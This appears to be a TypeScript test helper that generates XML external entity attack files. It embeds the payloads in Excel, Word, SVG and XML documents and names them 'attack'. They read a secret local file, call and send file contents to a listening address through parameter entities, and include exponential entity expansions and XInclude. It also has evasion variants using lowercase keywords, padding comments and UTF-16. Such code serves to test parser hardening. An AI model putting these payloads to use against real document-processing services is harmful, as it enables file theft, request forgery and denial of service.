import { buildWorkbook } from './buildWorkbook.ts';
import { buildZip } from './buildZip.ts';

/** A file that tries to make its reader open another file, call an address, or grow without end. */
export interface EntityPayload {
  readonly what: string;
  readonly name: string;
  readonly bytes: Buffer;
}

const declarations = (secret: string, address: string): Readonly<Record<string, string>> => ({
  'a local file': `<!DOCTYPE x [<!ENTITY a SYSTEM "file://${secret}">]>`,
  'an address': `<!DOCTYPE x [<!ENTITY a SYSTEM "${address}/entity">]>`,
  'an outside document type': `<!DOCTYPE x SYSTEM "${address}/x.dtd">`,
  'a public identifier': `<!DOCTYPE x PUBLIC "-//X//DTD" "${address}/public.dtd" [<!ENTITY a "b">]>`,
  'a parameter entity': `<!DOCTYPE x [<!ENTITY % p SYSTEM "${address}/p">%p;]>`,
  'a file sent by a parameter entity': `<!DOCTYPE x [<!ENTITY % f SYSTEM "file://${secret}"><!ENTITY % e "<!ENTITY a SYSTEM '${address}/?%f;'>">%e;]>`,
  'a flood of entities': `<!DOCTYPE x [<!ENTITY a0 "哈">${Array.from({ length: 20 }, (_, level) => `<!ENTITY a${level + 1} "${`&a${level};`.repeat(10)}">`).join('')}]>`,
  'one long entity many times': `<!DOCTYPE x [<!ENTITY a "${'哈'.repeat(50_000)}">]>`,
  'an entity in itself': '<!DOCTYPE x [<!ENTITY a "&a;">]>',
  'small letters': `<!doctype x [<!entity a SYSTEM "file://${secret}">]>`,
  'a long comment before': `<!--${'-x'.repeat(40_000)} --><!DOCTYPE x [<!ENTITY a SYSTEM "file://${secret}">]>`,
  'an attribute list': `<!DOCTYPE x [<!ATTLIST x a CDATA "&b;"><!ENTITY b SYSTEM "file://${secret}">]>`,
  'a notation': `<!DOCTYPE x [<!NOTATION n SYSTEM "${address}/n"><!ENTITY a SYSTEM "file://${secret}" NDATA n>]>`,
});

const parts = ['xl/workbook.xml', 'xl/sharedStrings.xml', 'xl/worksheets/sheet1.xml'];

/** Payloads for a secret file and a listening address, in Excel parts that are read and that are not, Word, SVG and XML. */
export function entityPayloads(secret: string, address: string): readonly EntityPayload[] {
  const kinds = Object.entries(declarations(secret, address));
  const inWorkbook = kinds.map(([what, declaration], index) => {
    const part = parts[index % parts.length] ?? '';
    const bytes = buildWorkbook({ replaced: { [part]: `${declaration}<x>&a;</x>` } });
    return { what: `${what} in ${part}`, name: '攻击.xlsx', bytes };
  });
  const [[, first = ''] = []] = kinds;
  const body = `${first}<x>&a;</x>`;
  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<?xml version="1.0"?>${body}`, 'utf16le')]);
  const unread = ['docProps/core.xml', 'xl/drawings/drawing1.vml', 'customXml/item1.xml', 'xl/media/picture.svg'];
  const image = `${first}<svg xmlns="http://www.w3.org/2000/svg"><image href="${address}/image"/><text>&a;</text></svg>`;
  const include = `<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://${secret}" parse="text"/></x>`;
  const word = (content: string | Buffer) => buildZip([{ name: 'word/document.xml', content }]);
  return [
    ...inWorkbook,
    ...unread.map((name) => ({
      what: `a part that nobody reads: ${name}`,
      name: '攻击.xlsx',
      bytes: buildWorkbook({ more: [{ name, content: body }] }),
    })),
    {
      what: 'UTF-16',
      name: '攻击.xlsx',
      bytes: buildWorkbook({ more: [{ name: 'docProps/app.xml', content: utf16 }] }),
    },
    { what: 'Word', name: '攻击.docx', bytes: word(body) },
    { what: 'Word in UTF-16', name: '攻击.docx', bytes: word(utf16) },
    { what: 'SVG', name: '攻击.svg', bytes: Buffer.from(image) },
    {
      what: 'SVG with a style sheet',
      name: '攻击.svg',
      bytes: Buffer.from(`<?xml-stylesheet href="${address}/s"?>${image}`),
    },
    { what: 'XML', name: '攻击.xml', bytes: Buffer.from(body) },
    { what: 'XML in UTF-16', name: '攻击.xml', bytes: utf16 },
    { what: 'XInclude', name: '攻击.xml', bytes: Buffer.from(include) },
  ];
}
